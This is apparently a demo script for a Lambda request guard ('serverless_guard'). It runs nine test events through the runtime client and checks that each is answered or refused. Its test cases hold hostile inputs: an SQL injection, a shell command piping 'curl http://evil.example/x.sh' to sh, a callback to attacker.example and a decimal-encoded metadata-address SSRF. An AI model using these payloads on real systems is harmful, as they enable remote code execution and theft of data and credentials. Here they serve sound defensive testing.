"""A guarded function in the real Lambda runtime client: harmless events answered, attacks refused, an undeclared call stopped.

    make demo              or    python -m examples.demo

The function is `examples/quickstart/app.py`, untouched. It runs in a process of its own under `awslambdaric`, which talks to a
Runtime API server on loopback; where that client has no wheel (macOS, Windows) the same events run in this process.
Needs no AWS account and no network. Exit status 0 when every event met what the demonstration says.
"""

from __future__ import annotations

import importlib.util
import io
import json
import os
import subprocess
import sys
import tempfile
import textwrap
from pathlib import Path
from statistics import median
from time import perf_counter_ns, sleep
from typing import Any

ROOT = Path(__file__).resolve().parents[1]
FUNCTION = ROOT / "examples" / "quickstart"
WIDTH = 78
GOOD = {"sku": "A-100", "quantity": 2, "note": "it's for O'Brien & Sons; leave it (please) at no. 7"}

CASES: list[tuple[str, Any, int]] = [
    ("A harmless order: apostrophe, ampersand, semicolon and brackets in its note", GOOD, 200),
    ("An SQL injection in the note", GOOD | {"note": "x' UNION SELECT card FROM customers -- "}, 403),
    ("The same, percent-encoded twice", GOOD | {"note": "x%2527%2520UNION%2520SELECT%2520card%2520FROM%2520customers%2520--%2520"}, 403),
    ("A shell command in the note", GOOD | {"note": "parcel; curl http://evil.example/x.sh | sh"}, 403),
    ("A body that is no order: the quantity is a string", GOOD | {"quantity": "2"}, 400),
    ("A body that is no JSON", '{"sku": "A-100", "quantity": 2', 400),
    ("A callback to a host that nobody declared", GOOD | {"callback": "https://attacker.example/collect"}, 403),
    ("A callback to the metadata address, in decimal", GOOD | {"callback": "http://2852039166/latest/meta-data/"}, 403),
    ("Another harmless order, after all that", {"sku": "B-200", "quantity": 1}, 200),
]


class InRuntime:
    """A function, by default the demonstration's, in the real runtime client."""

    name = "the real Lambda runtime client (awslambdaric)"

    def __init__(self, folder: Path = FUNCTION, environ: dict[str, str] | None = None) -> None:
        self.folder = folder
        self.environ = environ or {}

    def __enter__(self) -> InRuntime:
        sys.path.insert(0, str(ROOT / "tests"))
        from runtime.api import RuntimeApi

        self.api = RuntimeApi()
        self.log = tempfile.TemporaryFile()
        environ = {name: os.environ[name] for name in ("PATH", "HOME", "LANG", "SYSTEMROOT") if name in os.environ}
        environ |= {
            "AWS_LAMBDA_RUNTIME_API": self.api.address, "AWS_LAMBDA_FUNCTION_NAME": "quote", "AWS_LAMBDA_FUNCTION_VERSION": "$LATEST", "AWS_REGION": "eu-west-1",
            "AWS_LAMBDA_FUNCTION_MEMORY_SIZE": "128", "AWS_LAMBDA_LOG_STREAM_NAME": "2026/11/24/[$LATEST]demo", "PYTHONPATH": str(ROOT), **self.environ,
        }  # fmt: skip
        command = [sys.executable, "-m", "awslambdaric", "app.handler"]
        self.process = subprocess.Popen(command, cwd=self.folder, env=environ, stdout=self.log, stderr=subprocess.STDOUT)
        return self

    def __exit__(self, *_: object) -> None:
        self.process.kill()
        self.process.wait()
        self.log.close()
        self.api.close()

    def invoke(self, event: dict[str, Any]) -> tuple[Any, list[str]]:
        """The answer to an event, and what the function wrote while it worked on it."""
        before = self.log.seek(0, io.SEEK_END)
        answers = self.api.answers[self.api.put(event)]
        while answers.empty():
            if self.process.poll() is not None:
                self.log.seek(0)
                sys.exit(f"the function ended:\n{self.log.read().decode()}")
            sleep(0.002)
        answer = answers.get().json
        self.log.seek(before)
        return answer, self.log.read().decode().splitlines()


class InProcess:
    """The function in this process, where the runtime client has no wheel."""

    name = "this process (the runtime client has no wheel for this machine)"

    def __enter__(self) -> InProcess:
        self.handler = load()
        return self

    def __exit__(self, *_: object) -> None:
        pass

    def invoke(self, event: dict[str, Any]) -> tuple[Any, list[str]]:
        """The answer to an event, and what was written to standard output's descriptor meanwhile."""
        sys.stdout.flush()
        with tempfile.TemporaryFile() as log:
            keep = os.dup(1)
            os.dup2(log.fileno(), 1)
            try:
                answer = self.handler(event, None)
            finally:
                os.dup2(keep, 1)
                os.close(keep)
            log.seek(0)
            return answer, log.read().decode().splitlines()


def load() -> Any:
    """The guarded handler, in this process."""
    spec = importlib.util.spec_from_file_location("quickstart_app", FUNCTION / "app.py")
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module.handler


def request(body: Any) -> dict[str, Any]:
    """The event that an HTTP API makes of a POST."""
    event: dict[str, Any] = json.loads((FUNCTION / "events" / "quote.json").read_text())
    event["body"] = body if isinstance(body, str) else json.dumps(body)
    return event


def say(text: str, first: str = "", then: str = "") -> None:
    print(textwrap.fill(text, WIDTH, initial_indent=first, subsequent_indent=then or " " * len(first), break_long_words=True, break_on_hyphens=False))


def show(number: int, title: str, body: Any, status: int, answer: Any, log: list[str]) -> bool:
    """One event and what became of it; whether that is what was to be shown."""
    from serverless_guard.plain import event as security_event
    from serverless_guard.plain import plain

    told = [found for found in map(security_event, log) if found]
    got = answer.get("statusCode") if isinstance(answer, dict) else None
    held = got == status and bool(told) == (status != 200)
    say(title, f"{number}. ", "   ")
    say(body if isinstance(body, str) else json.dumps(body), "   sent      ", "             ")
    shown = f"{got} {json.loads(answer['body']) if got == 200 else json.loads(answer['body'])['message']}" if got else str(answer)
    say(shown, "   answered  ", "             ")
    for event in told:
        say(plain(event), "   event     ", "             ")
        say(
            f"{event['unmapped']['serverless_guard.guard_time_us']} us after the event came in, {len(json.dumps(event))} bytes of JSON on standard output",
            "   told      ",
        )
    if not told:
        say("nothing: a clean event writes nothing", "   event     ")
    if not held:
        say(f"EXPECTED {status}", "   ")
        print("\n".join(log))
    print()
    return held


def cost(body: dict[str, Any]) -> tuple[float, float, int]:
    """What the guard adds to a clean event, in us, what parsing it takes, and its size in bytes: medians over fresh events in this process."""
    handler, text = load(), json.dumps(request(body))
    bare = handler.__wrapped__
    times: dict[str, list[int]] = {"guarded": [], "bare": [], "parse": []}
    for index in range(600):
        fresh = text.replace("no. 7", f"no. {index}")
        for name, call in (("guarded", handler), ("bare", bare)):
            event = json.loads(fresh)
            started = perf_counter_ns()
            call(event, None)
            times[name].append(perf_counter_ns() - started)
        started = perf_counter_ns()
        json.loads(json.loads(fresh)["body"])
        times["parse"].append(perf_counter_ns() - started)
    guarded, bare_ns, parse = (median(times[name][100:]) for name in ("guarded", "bare", "parse"))
    return (guarded - bare_ns) / 1000, parse / 1000, len(text)


def main() -> int:
    """Run the cases; 0 when each met what it says."""
    runtime = InRuntime if importlib.util.find_spec("awslambdaric") else InProcess
    print()
    say(f"serverless_guard: {FUNCTION.relative_to(ROOT)}/app.py in {runtime.name}, Python {sys.version.split()[0]}")
    print("=" * WIDTH + "\n")
    with runtime() as function:
        held = [show(number, title, body, status, *function.invoke(request(body))) for number, (title, body, status) in enumerate(CASES, 1)]
    print("=" * WIDTH)
    say(
        f"{sum(held)} of {len(held)} events met what they should: {sum(case[2] == 200 for case in CASES)} answered, {sum(case[2] != 200 for case in CASES)} refused."
    )
    plain, parse, size = cost(GOOD | {"note": "please leave the parcel at no. 7"})
    say(f"A clean event of {size / 1000:.1f} KB costs {plain:.0f} us in the guard; parsing it with its body takes {parse:.0f} us.")
    say(f"The note of case 1, which looks odd and is read closely, brings that to {cost(GOOD)[0]:.0f} us.")
    say("Next: `serverless-guard init` writes a policy for your function; README.md shows the rest.")
    return 0 if all(held) else 1


if __name__ == "__main__":
    sys.exit(main())
